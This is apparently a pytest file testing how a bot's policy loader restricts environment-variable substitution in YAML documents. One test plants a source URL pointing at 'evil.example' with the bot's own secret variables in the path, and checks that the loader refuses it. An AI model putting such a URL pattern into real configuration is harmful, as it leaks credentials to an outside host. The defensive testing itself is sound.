"""Which variables of the environment a policy document may show, and where."""

import pytest

from bot.catalog.sources import PrometheusSettings
from bot.policy.loader import load
from bot.policy.yaml.substitution import OWN_VARIABLES
from bot.settings import Settings
from tests.policy.conftest import POLICY, SERVICE, WORKSPACE, Write, texts_of

SECRET = "hunter2-s3cret"
ALLOWED = (
    "(allowed: addresses and credentials of sources, flag backends, paging systems and webhooks, "
    "or the name under `spec.variables` of the Workspace document)"
)
ENVIRON = {"THEIRS": SECRET, **dict.fromkeys(OWN_VARIABLES, SECRET)}


@pytest.mark.parametrize(
    ("documents", "position"),
    [
        ({"s": SERVICE + "  flags: ['${THEIRS}']\n"}, "s.yaml:11:11: Service/checkout spec.flags[0]"),
        (
            {"s": SERVICE.replace("availability", "a-${THEIRS}")},
            "s.yaml:7:13: Service/checkout spec.slos[0].name",
        ),
        (
            {"s": SERVICE + "  description: '${THEIRS:-x}'\n"},
            "s.yaml:11:16: Service/checkout spec.description",
        ),
        (
            {"p": POLICY.replace("standard", "'${THEIRS}'")},
            "p.yaml:3:18: ErrorBudgetPolicy/${THEIRS} metadata.name",
        ),
        (
            {"w": WORKSPACE.replace('"#releases"', "'#${THEIRS}'")},
            "w.yaml:5:29: Workspace/acme spec.channels.announcements",
        ),
        (
            {"w": WORKSPACE + "  flags: {environments: [{name: '${THEIRS}'}]}\n"},
            "w.yaml:8:33: Workspace/acme spec.flags.environments[0].name",
        ),
    ],
)
def test_a_variable_is_refused_where_everybody_would_read_it(
    write: Write, documents: dict[str, str], position: str
) -> None:
    folder = write(**({"w": WORKSPACE, "s": SERVICE} | documents))
    (fault,) = texts_of(folder, **ENVIRON)
    assert fault == f"{position}: the environment variable `THEIRS` is not filled in here {ALLOWED}"
    # What is wrong does not depend on where it is checked.
    assert texts_of(folder) == [fault]


@pytest.mark.parametrize("name", sorted(OWN_VARIABLES))
def test_the_bots_own_variables_are_filled_in_nowhere(write: Write, name: str) -> None:
    folder = write(
        w=WORKSPACE.replace("http://localhost:9090", f"http://evil.example/${{{name}}}"),
        s=SERVICE + f"  flags: ['${{{name.lower()}:-x}}']\n",
    )
    faults = texts_of(folder, **ENVIRON)
    assert [fault.partition(": ")[0] for fault in faults] == ["s.yaml:11:11", "w.yaml:7:23"]
    assert all("configures the bot itself and is never filled in" in fault for fault in faults)
    assert SECRET not in "".join(faults)
    named = write(w=WORKSPACE + f"  variables: [{name}]\n", s=SERVICE)
    (fault,) = texts_of(named, **ENVIRON)
    assert "configures the bot itself" in fault


def test_every_setting_is_one_of_the_bots_own_variables() -> None:
    assert {name.upper() for name in Settings.model_fields} <= OWN_VARIABLES


def test_the_workspace_allows_others_by_name(write: Write) -> None:
    workspace = WORKSPACE + "  variables: [TEAM, PUBLIC]\n"
    service = SERVICE.replace("#checkout", "#${TEAM}") + "  description: 'see ${PUBLIC}'\n"
    policies = load(write(w=workspace, s=service), {"TEAM": "payments", "PUBLIC": "the wiki"})
    checkout = policies.services["checkout"]
    assert (checkout.channel, checkout.description) == ("#payments", "see the wiki")


def test_only_the_main_workspace_allows_names(write: Write) -> None:
    further = (
        "apiVersion: governor/v1\nkind: Workspace\nmetadata: {name: other}\n"
        "spec: {team: T0OTHER, channels: {announcements: '#x'}, variables: [TEAM]}\n"
    )
    service = SERVICE.replace("#checkout", "#${TEAM}")
    faults = texts_of(write(w=WORKSPACE, further=further, s=service), TEAM="payments")
    assert any("`variables` belongs in the main Workspace document" in fault for fault in faults)
    assert any("`TEAM` is not filled in here" in fault for fault in faults)


def test_addresses_and_credentials_come_from_the_environment(write: Write) -> None:
    workspace = WORKSPACE.replace(
        '{url: "http://localhost:9090"}',
        '{url: "${A}", basicAuth: {username: "${A}", password: "${B}"}, headers: {X-Scope: "${B}"}}',
    )
    workspace += "  flags: {backend: {unleash: {url: '${A}', token: '${B}', environments: {a: '${B}'}}}}\n"
    policies = load(write(w=workspace, s=SERVICE), {"A": "http://a", "B": "b"})
    source = policies.workspace.sources["prometheus"]
    assert isinstance(source, PrometheusSettings)
    assert (source.url, source.basic_auth, source.headers) == (
        "http://a",
        ("http://a", "b"),
        {"X-Scope": "b"},
    )
    assert policies.workspace.flags.backend_settings["environments"] == {"a": "b"}
